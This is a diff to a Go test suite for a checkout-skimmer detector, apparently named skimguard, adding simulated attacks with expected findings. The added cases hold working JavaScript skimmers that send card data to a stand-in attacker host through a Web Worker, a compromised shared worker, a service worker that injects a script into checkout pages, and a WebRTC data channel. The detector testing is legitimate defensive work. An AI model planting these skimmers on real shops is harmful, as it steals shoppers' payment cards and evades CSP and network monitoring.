@@ -30,6 +30,14 @@ type technique struct {
 	want, anyOf []skimguard.Kind
 	// subjects must each appear in some finding's subject.
 	subjects []string
+	// shopper, for a skimmer that sends only where WebRTC may send UDP:
+	// each planted check first has a shopper's own browser load the page
+	// and type the card, and the attacker must receive it over a data
+	// channel (skimguard's browser sends no UDP around its egress proxy).
+	shopper bool
+	// initiators must each appear in some finding's evidence initiator
+	// (a worker, "worker https://shop/w.js").
+	initiators []string
 	// repeat checks the planted page this many times (once-per-visitor).
 	repeat int
 	// fires says what the attacker's server must receive from the shopper's
@@ -491,6 +499,80 @@ if ((new RegExp('onepagecheckout|onestepcheckout|onepage')).test(window.location
 			want:     []skimguard.Kind{skimguard.KindScriptAdded},
 			subjects: []string{"/jquery.min.js"},
 			fires:    fireNothing,
+		},
+		{
+			name: "dedicated-worker", threat: "a Web Worker skims: the page hands it the card, it imports its code from the attacker and sends from outside the page",
+			base: direct,
+			plant: func(p *page) {
+				p.Body = script(`var w = new Worker('` + p.Base + `/static/crypto-worker.js');` + skim(`w.postMessage(s); sent = true;`))
+				p.ShopFiles["/static/crypto-worker.js"] = `importScripts('` + p.EvilBase + `/wk.js');`
+				p.EvilFiles["/wk.js"] = `onmessage = function (e) { fetch('` + p.EvilBase + `/w', { method: 'POST', mode: 'no-cors', body: btoa(e.data) }); };`
+			},
+			want:       []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration, skimguard.KindConnectionAdded},
+			subjects:   []string{"/wk.js", "127.0.0.4"},
+			initiators: []string{"worker "},
+		},
+		{
+			name: "shared-worker", threat: "the shop's shared worker, compromised, receives the card from the page and sends it to the attacker",
+			base: func(p *page) {
+				direct(p)
+				p.AppJS += `var cartSync = new SharedWorker('` + p.Base + `/static/cart-sync.js'); cartSync.port.start();
+document.addEventListener('change', function (e) { if (e.target.name === 'cc-name') cartSync.port.postMessage({ name: e.target.value }); }, true);
+`
+				p.ShopFiles["/static/cart-sync.js"] = `onconnect = function (e) { var port = e.ports[0]; port.onmessage = function (m) { port.postMessage('saved'); }; };`
+			},
+			plant: func(p *page) {
+				p.ShopFiles["/static/cart-sync.js"] = `onconnect = function (e) { var port = e.ports[0]; port.onmessage = function (m) { port.postMessage('saved');
+  if (m.data.n) fetch('` + p.EvilBase + `/s?d=' + encodeURIComponent(btoa(m.data.n)), { mode: 'no-cors' }); }; };`
+				p.Body = script(skim(`cartSync.port.postMessage({ n: s }); sent = true;`))
+			},
+			want:       []skimguard.Kind{skimguard.KindScriptChanged, skimguard.KindDataExfiltration, skimguard.KindConnectionAdded},
+			subjects:   []string{"/static/cart-sync.js", "127.0.0.4"},
+			initiators: []string{"shared worker "},
+		},
+		{
+			name: "service-worker-returning", threat: "a compromised service worker rewrites the checkout HTML a returning shopper receives, injecting the skimmer; a first visit looks clean",
+			base: func(p *page) {
+				direct(p)
+				p.AppJS += "navigator.serviceWorker.register('" + p.Base + "/sw.js');\n"
+				p.ShopFiles["/sw.js"] = `self.addEventListener('install', function () { self.skipWaiting(); });
+self.addEventListener('activate', function (e) { e.waitUntil(self.clients.claim()); });
+self.addEventListener('fetch', function (e) { if (e.request.mode === 'navigate') e.respondWith(fetch(e.request)); });`
+			},
+			plant: func(p *page) {
+				p.ShopFiles["/sw.js"] = `self.addEventListener('install', function () { self.skipWaiting(); });
+self.addEventListener('activate', function (e) { e.waitUntil(self.clients.claim()); });
+self.addEventListener('fetch', function (e) {
+  if (e.request.mode !== 'navigate') return;
+  e.respondWith(fetch(e.request).then(function (r) { return r.text().then(function (h) {
+    return new Response(h.replace('</body>', '<script src="` + p.EvilBase + `/sw-inject.js"></script></body>'), { status: r.status, headers: r.headers });
+  }); }));
+});`
+				p.EvilFiles["/sw-inject.js"] = skim(`navigator.sendBeacon('` + p.EvilBase + `/r', btoa(s)); sent = true;`)
+			},
+			want:     []skimguard.Kind{skimguard.KindScriptChanged, skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
+			subjects: []string{"/sw.js", "/sw-inject.js", "127.0.0.4"},
+		},
+		{
+			name: "webrtc-datachannel", threat: "WebRTC data channel exfiltration, past CSP and the network log (Sansec, Dec 2021 and 2026)",
+			base: direct,
+			plant: func(p *page) {
+				p.Body = script(`var rtc = { q: null, open: false }; (function () {
+  var pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:` + hostname(p.Evil) + `:3478' }] });
+  rtc.dc = pc.createDataChannel('c');
+  rtc.dc.onopen = function () { rtc.open = true; if (rtc.q) rtc.dc.send(rtc.q); };
+  pc.createOffer().then(function (o) { return pc.setLocalDescription(o); })
+    .then(function () { return fetch('` + p.EvilBase + `/rtc', { method: 'POST', body: pc.localDescription.sdp }); })
+    .then(function (r) { return r.text(); }).then(function (a) { return pc.setRemoteDescription({ type: 'answer', sdp: a }); });
+})();` + skim(`rtc.q = btoa(s); if (rtc.open) rtc.dc.send(rtc.q); sent = true;`))
+			},
+			// In skimguard's browser the channel never opens: what proves
+			// the skimmer ran there is its offer reaching the attacker; a
+			// shopper's browser proves it sends the card.
+			shopper:  true,
+			fires:    fireRequest,
+			want:     []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindConnectionAdded},
+			subjects: []string{"stun://" + "127.0.0.4:3478"},
 		},
 	}...)
 }
